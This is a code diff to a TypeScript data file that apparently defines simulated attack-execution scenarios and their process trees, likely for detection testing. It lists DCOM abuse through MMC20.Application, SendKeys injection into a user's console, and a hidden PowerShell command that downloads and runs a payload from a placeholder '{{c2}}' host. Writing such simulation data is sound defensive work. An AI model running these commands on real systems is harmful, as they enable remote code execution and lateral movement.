@@ -248,8 +248,15 @@ export const executionB = [
         {
           ps: '[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","localhost")).Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c calc.exe","7")',
         },
-        { cmd: '"C:\\Windows\\system32\\mmc.exe" -Embedding', parent: "@svchost:DcomLaunch", as: "mmc" },
-        { cmd: '"C:\\Windows\\system32\\cmd.exe" /c calc.exe', parent: "mmc" },
+        // DcomLaunch starts the server as the activating user, not as itself (SYSTEM).
+        {
+          cmd: '"C:\\Windows\\system32\\mmc.exe" -Embedding',
+          parent: "@svchost:DcomLaunch",
+          as: "mmc",
+          user: "@user",
+        },
+        { cmd: '"C:\\Windows\\system32\\cmd.exe" /c calc.exe', parent: "mmc", as: "c" },
+        { cmd: "calc.exe", parent: "c" },
       ],
       { shell: "ps" },
     ),
@@ -259,7 +266,8 @@ export const executionB = [
         {
           ps: '$o=[activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")); $o.item().Document.Application.ShellExecute("cmd.exe","/c whoami","C:\\Windows\\System32",$null,0)',
         },
-        { cmd: '"C:\\Windows\\System32\\cmd.exe" /c whoami', parent: "@explorer" },
+        { cmd: '"C:\\Windows\\System32\\cmd.exe" /c whoami', parent: "@explorer", as: "c" },
+        { cmd: "whoami", parent: "c" },
       ],
       { shell: "ps" },
     ),
@@ -272,6 +280,12 @@ export const executionB = [
         {
           cmd: "cmd.exe /c powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/p')",
           parent: "xl",
+          as: "c",
+        },
+        {
+          cmd: "powershell  -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/p')",
+          parent: "c",
+          net: [["{{c2}}", 80]],
         },
       ],
       { shell: "none" },
@@ -281,9 +295,12 @@ export const executionB = [
     v(
       "sendkeys",
       [
+        // The user's open console window, which the keystrokes drive.
+        { cmd: '"C:\\Windows\\system32\\cmd.exe" ', parent: "@explorer", as: "victim", keep: true },
         {
           ps: "$w = New-Object -ComObject WScript.Shell; $w.AppActivate('cmd'); $w.SendKeys('powershell -w hidden{ENTER}')",
         },
+        { cmd: "powershell  -w hidden", parent: "victim", keep: true },
       ],
       { shell: "ps" },
     ),
